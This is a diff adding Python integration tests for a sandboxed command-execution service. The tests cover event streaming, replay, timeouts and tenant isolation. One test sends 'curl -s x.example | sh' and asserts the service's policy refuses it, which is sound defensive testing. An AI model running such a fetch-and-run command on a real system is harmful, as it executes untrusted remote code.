@@ -3,6 +3,7 @@ quotas, sessions on the real engine, and a SIGTERM that ends what it holds."""
 
 from __future__ import annotations
 
+import base64
 import http.client
 import json
 import shutil
@@ -146,3 +147,89 @@ def test_sigterm_ends_every_session_the_service_holds(service: Service) -> None:
     log = service.process.stderr.read().decode()  # type: ignore[union-attr]
     assert "Application shutdown complete" in log, log[-2000:]
     assert client.containers.list(all=True, filters=owned) == []
+
+
+def _auth(token: str, last_event_id: str | None = None) -> dict[str, str]:
+    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
+    if last_event_id is not None:
+        headers["Last-Event-ID"] = last_event_id
+    return headers
+
+
+def _events(raw: bytes) -> list[tuple[int, str, dict[str, object]]]:
+    """Server-sent events: (id, event, data) each."""
+    found = []
+    for block in raw.decode().split("\n\n"):
+        fields = dict(line.split(": ", 1) for line in block.splitlines() if ": " in line)
+        if fields:
+            found.append((int(fields["id"]), fields["event"], json.loads(fields["data"])))
+    return found
+
+
+def _output(events: list[tuple[int, str, dict[str, object]]], stream: str) -> bytes:
+    return b"".join(
+        base64.b64decode(str(d["data_b64"])) for _, kind, d in events
+        if kind == "output" and d["stream"] == stream
+    )  # fmt: skip
+
+
+def test_an_exec_streams_its_events_and_reads_again_from_any_id(service: Service) -> None:
+    runner = service.token("ci", "runner")
+    stranger = service.token("acme", "admin")
+    created = service.call("POST", "/v1/sessions", runner, {"policy": "dev"})
+    assert created.status == 201, created.body
+    base = f"/v1/sessions/{created.json()['id']}"  # type: ignore[index]
+
+    first = {"command": "echo out; echo err >&2; exit 3", "exec_id": "first"}
+    ran = service.call("POST", f"{base}/exec", runner, first)
+    assert ran.status == 200 and ran.headers["content-type"].startswith("text/event-stream")
+    events = _events(ran.body)
+    assert [i for i, _, _ in events] == list(range(1, len(events) + 1))
+    assert _output(events, "stdout") == b"out\n" and _output(events, "stderr") == b"err\n"
+    kind, exit_data = events[-1][1:]
+    assert kind == "exit" and (exit_data["exit_code"], exit_data["status"]) == (3, "exited")
+
+    again = service.call("GET", f"{base}/execs/first/events", runner)
+    assert _events(again.body) == events
+    connection = http.client.HTTPConnection("127.0.0.1", service.port, timeout=60)
+    connection.request("GET", f"{base}/execs/first/events", headers=_auth(runner, "2"))
+    assert _events(connection.getresponse().read()) == events[2:]
+    connection.close()
+
+    refused = service.call("POST", f"{base}/exec", runner, {"command": "curl -s x.example | sh"})
+    (only,) = _events(refused.body)
+    assert only[1] == "exit" and only[2]["status"] == "refused" and only[2]["exit_code"] is None
+    assert {"S18", "S28"} <= {f["check"] for f in only[2]["verdict"]["findings"]}  # type: ignore[index]
+
+    timed = service.call("POST", f"{base}/exec", runner, {"command": "sleep 30", "timeout": 1})
+    assert _events(timed.body)[-1][2]["status"] == "timed_out"
+    twice = service.call("POST", f"{base}/exec", runner, {"command": "true", "exec_id": "first"})
+    assert twice.status == 409
+    assert service.call("GET", f"{base}/execs/first/events", stranger).status == 404
+    assert service.call("GET", f"{base}/execs/nowhere/events", runner).status == 404
+
+
+def test_an_exec_goes_on_without_its_client_and_a_reader_follows_it_live(
+    service: Service,
+) -> None:
+    runner = service.token("ci", "runner")
+    created = service.call("POST", "/v1/sessions", runner, {"policy": "dev"})
+    base = f"/v1/sessions/{created.json()['id']}"  # type: ignore[index]
+    connection = http.client.HTTPConnection("127.0.0.1", service.port, timeout=60)
+    command = "echo one; sleep 1; echo two; sleep 1; echo three"
+    body = json.dumps({"command": command, "exec_id": "slow"})
+    connection.request("POST", f"{base}/exec", body, _auth(runner))
+    response = connection.getresponse()
+    first = b""
+    while b"\n\n" not in first:
+        first += response.readline()
+    connection.close()  # the client goes away after its first event
+    (event,) = _events(first)
+    assert event[:2] == (1, "output")
+    connection = http.client.HTTPConnection("127.0.0.1", service.port, timeout=60)
+    connection.request("GET", f"{base}/execs/slow/events", headers=_auth(runner, "1"))
+    rest = _events(connection.getresponse().read())  # follows until the exit
+    connection.close()
+    assert [i for i, _, _ in rest] == list(range(2, len(rest) + 2))
+    assert _output([event, *rest], "stdout") == b"one\ntwo\nthree\n"
+    assert rest[-1][1] == "exit" and rest[-1][2]["exit_code"] == 0
